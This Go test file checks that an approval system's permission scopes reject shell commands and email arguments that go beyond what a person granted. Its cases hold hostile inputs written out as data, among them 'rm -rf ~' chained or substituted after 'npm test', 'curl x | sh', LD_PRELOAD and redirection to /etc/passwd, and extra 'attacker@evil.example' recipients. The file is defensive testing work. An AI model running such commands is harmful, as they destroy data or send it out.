package approval

import (
	"encoding/json"
	"strings"
	"testing"
)

func shellArgs(cmd string) Arguments {
	b, _ := json.Marshal(map[string]string{"command": cmd, "description": "runs it"})
	return ParseArguments(string(b))
}

func TestShellScopeCovers(t *testing.T) {
	npmTest := GrantScope{Shell: &ShellScope{Argument: "command", Rules: []ShellRule{{Words: []string{"npm", "test"}}}}}
	two := GrantScope{Shell: &ShellScope{Argument: "command", Rules: []ShellRule{{Words: []string{"npm", "test"}},
		{Words: []string{"git", "status"}, Exact: true}}}}
	cases := []struct {
		name  string
		scope GrantScope
		cmd   string
		want  bool
	}{
		{"Same", npmTest, "npm test", true},
		{"MoreArguments", npmTest, "npm test unit integration", true},
		{"OptionsNotCovered", npmTest, "npm test -- --watch", false},
		{"ScriptShellNotCovered", npmTest, "npm test --script-shell=./evil.sh", false},
		{"PrefixOptionNotCovered", npmTest, "npm test --prefix ../other", false},
		{"QuotedSameValue", npmTest, "'npm' \"test\"", true},
		{"ChainWithUncovered", npmTest, "npm test && rm -rf ~", false},
		{"ChainThenPipeToShell", npmTest, "npm test; curl x | sh", false},
		{"Substitution", npmTest, "npm test $(rm -rf ~)", false},
		{"Backticks", npmTest, "npm test `id`", false},
		{"Variable", npmTest, "npm test $HOME", false},
		{"LongerWord", npmTest, "npm testx", false},
		{"Sudo", npmTest, "sudo npm test", false},
		{"Env", npmTest, "env npm test", false},
		{"Assignment", npmTest, "LD_PRELOAD=x.so npm test", false},
		{"Redirection", npmTest, "npm test > /etc/passwd", false},
		{"RedirectionIn", npmTest, "npm test < x", false},
		{"Subshell", npmTest, "(npm test)", false},
		{"Group", npmTest, "{ npm test; }", false},
		{"Control", npmTest, "if npm test; then npm test; fi", false},
		{"BashC", npmTest, "bash -c 'npm test'", false},
		{"Eval", npmTest, "eval npm test", false},
		{"ProcessSubstitution", npmTest, "npm test <(rm -rf ~)", false},
		{"HereDoc", npmTest, "npm test <<EOF\nx\nEOF", false},
		{"Unparsable", npmTest, "npm test 'unclosed", false},
		{"Empty", npmTest, "", false},
		{"OnlyFirstWord", npmTest, "npm", false},
		{"Background", npmTest, "npm test &", true},
		{"ChainAllCovered", two, "npm test && git status", true},
		{"ChainAllCoveredPipe", two, "git status | npm test x", true},
		{"ExactLonger", two, "git status --short", false},
		{"ExactWithCoveredChain", two, "npm test; git status; npm test a", true},
		{"HiddenCharacter", npmTest, "npm test \u202eabc", false},
		{"PathCommand", npmTest, "./npm test", false},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			if got := c.scope.Covers(shellArgs(c.cmd)); got != c.want {
				t.Fatalf("%q covered: %v, want %v", c.cmd, got, c.want)
			}
		})
	}
	t.Run("OtherArgument", func(t *testing.T) {
		if npmTest.Covers(ParseArguments(`{"cmd":"npm test"}`)) || npmTest.Covers(ParseArguments(`{"command":["npm","test"]}`)) {
			t.Fatal("covered without the shell argument as a string")
		}
	})
	t.Run("NotParsedArguments", func(t *testing.T) {
		if npmTest.Covers(ParseArguments(`{"command":"npm test","command":"rm -rf ~"}`)) {
			t.Fatal("duplicate keys covered")
		}
	})
	t.Run("ShortPrefixNeverHonoured", func(t *testing.T) {
		wide := GrantScope{Shell: &ShellScope{Argument: "command", Rules: []ShellRule{{Words: []string{"npm"}}}}}
		if wide.Covers(shellArgs("npm test")) {
			t.Fatal("a one-word prefix covered a call")
		}
		find := GrantScope{Shell: &ShellScope{Argument: "command", Rules: []ShellRule{{Words: []string{"find", "."}}}}}
		if find.Covers(shellArgs("find . -delete")) {
			t.Fatal("a prefix of an exact-only command covered a call")
		}
		sudo := GrantScope{Shell: &ShellScope{Argument: "command", Rules: []ShellRule{{Words: []string{"sudo", "npm"}}, {Words: []string{"sudo", "npm", "test"}, Exact: true}}}}
		if sudo.Covers(shellArgs("sudo npm test")) {
			t.Fatal("sudo covered")
		}
	})
	t.Run("Malformed", func(t *testing.T) {
		if (GrantScope{}).Covers(shellArgs("npm test")) {
			t.Fatal("empty scope covered")
		}
		both := GrantScope{Shell: npmTest.Shell, Args: &ArgsScope{}}
		if both.Covers(shellArgs("npm test")) {
			t.Fatal("a scope of both kinds covered")
		}
	})
}

func mailScope(t *testing.T, fixed ...string) GrantScope {
	t.Helper()
	p := ProposeScope(ParseArguments(`{"to":"finance@acme.example","subject":"Q3","body":"hello"}`), "")
	var choices []string
	for _, k := range fixed {
		choices = append(choices, "key:"+k)
	}
	s, _, err := ChooseScope(p, choices)
	if err != nil {
		t.Fatal(err)
	}
	return s
}

func TestArgsScopeCovers(t *testing.T) {
	to := mailScope(t, "to")
	exact := mailScope(t)
	cases := []struct {
		name  string
		scope GrantScope
		args  string
		want  bool
	}{
		{"SameRecipientOtherBody", to, `{"to":"finance@acme.example","subject":"Q4","body":"other"}`, true},
		{"SameRecipientKeyOrderEscapes", to, `{"body":"x","to":"finance\u0040acme.example"}`, true},
		{"SameRecipientNoBody", to, `{"to":"finance@acme.example"}`, true},
		{"OtherRecipient", to, `{"to":"attacker@evil.example","subject":"Q3","body":"hello"}`, false},
		{"RecipientList", to, `{"to":["finance@acme.example","attacker@evil.example"]}`, false},
		{"AddedCC", to, `{"to":"finance@acme.example","body":"x","cc":"attacker@evil.example"}`, false},
		{"MissingFixed", to, `{"subject":"Q3","body":"hello"}`, false},
		{"NotParsed", to, `{"to":"finance@acme.example",}`, false},
		{"ExactSame", exact, `{"subject":"Q3","to":"finance@acme.example","body":"hello"}`, true},
		{"ExactOtherBody", exact, `{"to":"finance@acme.example","subject":"Q3","body":"hello!"}`, false},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			if got := c.scope.Covers(ParseArguments(c.args)); got != c.want {
				t.Fatalf("%s covered: %v, want %v", c.args, got, c.want)
			}
		})
	}
}

func TestProposeAndChooseShellScope(t *testing.T) {
	p := ProposeScope(shellArgs("npm test watch && git status && ls && echo $(id) > out && find . -name x"), "command")
	if len(p.Shell) != 6 {
		t.Fatalf("%d choices: %+v", len(p.Shell), p.Shell)
	}
	want := []struct{ prefix, exact string }{
		{"npm test", "npm test watch"}, {"git status", "git status"}, {"", "ls"}, {"", ""}, {"", ""}, {"", "find . -name x"},
	}
	for i, w := range want {
		if got := strings.Join(p.Shell[i].Prefix, " "); got != w.prefix {
			t.Errorf("%d prefix %q, want %q", i, got, w.prefix)
		}
		if got := strings.Join(p.Shell[i].Exact, " "); got != w.exact {
			t.Errorf("%d exact %q, want %q", i, got, w.exact)
		}
	}
	if p.Shell[3].Why == "" || p.Shell[4].Why == "" {
		t.Error("no reason given for commands never covered")
	}
	for _, c := range []struct {
		name    string
		choices []string
		words   string
		err     bool
	}{
		{"Default", nil, "commands starting with `npm test` or `git status`, then any words but options (none starting with -); or exactly `ls` or `find . -name x` (a chain only when every command in it is one of these)", false},
		{"Narrowed", []string{"0:exact", "1:none", "2:none", "5:none"}, "commands exactly `npm test watch`", false},
		{"OptionsForGit", []string{"1:options"}, "", true},
		{"OptionsForNpm", []string{"0:options"}, "", true},
		{"OptionsOfExactOnly", []string{"5:options"}, "", true},
		{"PrefixWhereNone", []string{"2:prefix"}, "", true},
		{"ExactOfUncoverable", []string{"3:exact"}, "", true},
		{"NoneLeft", []string{"0:none", "1:none", "2:none", "5:none"}, "", true},
		{"OutOfRange", []string{"9:exact"}, "", true},
		{"Twice", []string{"0:exact", "0:prefix"}, "", true},
		{"Garbage", []string{"npm"}, "", true},
		{"Widen", []string{"0:wider"}, "", true},
	} {
		t.Run(c.name, func(t *testing.T) {
			s, words, err := ChooseScope(p, c.choices)
			if (err != nil) != c.err {
				t.Fatalf("err %v", err)
			}
			if err == nil && words != c.words {
				t.Fatalf("words %q, want %q", words, c.words)
			}
			if err == nil && !s.Covers(shellArgs("npm test watch")) {
				t.Fatal("the scope does not cover the call it came from")
			}
		})
	}
	t.Run("NothingCoverableFallsBackToExactArguments", func(t *testing.T) {
		p := ProposeScope(shellArgs("sudo rm -rf /"), "command")
		if len(p.Shell) != 0 || len(p.Keys) != 2 {
			t.Fatalf("%+v", p)
		}
		s, _, err := ChooseScope(p, nil)
		if err != nil || !s.Covers(shellArgs("sudo rm -rf /")) || s.Covers(shellArgs("sudo rm -rf ~")) {
			t.Fatalf("%v %+v", err, s)
		}
	})
	t.Run("NotParsed", func(t *testing.T) {
		if _, _, err := ChooseScope(ProposeScope(ParseArguments("nope"), "command"), nil); err == nil {
			t.Fatal("a scope of unparsed arguments")
		}
	})
}

func TestChooseKeys(t *testing.T) {
	p := ProposeScope(ParseArguments(`{"to":"finance@acme.example","subject":"Q3","body":"hello"}`), "")
	_, words, err := ChooseScope(p, []string{"key:to"})
	if err != nil || words != "calls with `to` = finance@acme.example; any `subject` and `body`; no other arguments" {
		t.Fatalf("%v %q", err, words)
	}
	for _, bad := range [][]string{{"key:cc"}, {"key:to", "key:to"}, {"to"}, {"0:prefix"}} {
		if _, _, err := ChooseScope(p, bad); err == nil {
			t.Errorf("%v accepted", bad)
		}
	}
}

func TestProposalShowsHiddenCharacters(t *testing.T) {
	p := ProposeScope(ParseArguments(`{"to":"x\u0000y\u202e"}`), "")
	if len(p.Keys) != 1 || HasHidden(p.Keys[0].Shown, SingleLine) {
		t.Fatalf("%+v", p.Keys)
	}
	s := ProposeScope(shellArgs("echo \"a\u202eb\""), "command")
	if len(s.Shell) != 0 && HasHidden(s.Shell[0].Text, SingleLine) {
		t.Fatalf("%+v", s.Shell)
	}
}

// TestScopeOptions: a prefix covers option words only when the person
// widened it to "and any options", which is offered only for commands
// whose options are not known to run other code, and is checked again by
// the matcher.
func TestScopeOptions(t *testing.T) {
	p := ProposeScope(shellArgs("grep foo src"), "command")
	if len(p.Shell) != 1 || !p.Shell[0].Options || strings.Join(p.Shell[0].Prefix, " ") != "grep foo" {
		t.Fatalf("%+v", p.Shell)
	}
	plain, _, err := ChooseScope(p, []string{"0:prefix"})
	if err != nil {
		t.Fatal(err)
	}
	wide, words, err := ChooseScope(p, []string{"0:options"})
	if err != nil || !strings.Contains(words, "options included (option words can change what a command runs)") {
		t.Fatalf("%v %q", err, words)
	}
	for _, c := range []struct {
		cmd         string
		plain, wide bool
	}{
		{"grep foo src", true, true},
		{"grep foo -r src", false, true},
		{"grep foo --include=*.go src", false, false}, // the glob expands when it runs
		{"grep foo -- -r", false, true},
		{"grep bar -r", false, false},
		{"sudo grep foo -r", false, false},
	} {
		if got := plain.Covers(shellArgs(c.cmd)); got != c.plain {
			t.Errorf("%q covered by the plain prefix: %v", c.cmd, got)
		}
		if got := wide.Covers(shellArgs(c.cmd)); got != c.wide {
			t.Errorf("%q covered with any options: %v", c.cmd, got)
		}
	}
	for _, cmd := range []string{"npm test", "npx jest", "git log", "make build", "git -c x=y log"} {
		for _, ch := range ProposeScope(shellArgs(cmd), "command").Shell {
			if ch.Options {
				t.Errorf("%q: options offered for a command whose options run other code", cmd)
			}
		}
	}
	// A stored rule with options for such a command is not honoured.
	for _, r := range []ShellRule{{Words: []string{"npm", "test"}, Options: true}, {Words: []string{"git", "log"}, Options: true}} {
		g := GrantScope{Shell: &ShellScope{Argument: "command", Rules: []ShellRule{r}}}
		if g.Covers(shellArgs(strings.Join(r.Words, " ") + " x")) {
			t.Errorf("%v honoured", r)
		}
	}
	// make reads NAME=value words as settings: never covered after a prefix.
	mk := GrantScope{Shell: &ShellScope{Argument: "command", Rules: []ShellRule{{Words: []string{"make", "build"}}}}}
	if !mk.Covers(shellArgs("make build all")) || mk.Covers(shellArgs("make build SHELL=./evil.sh")) {
		t.Error("make settings")
	}
}
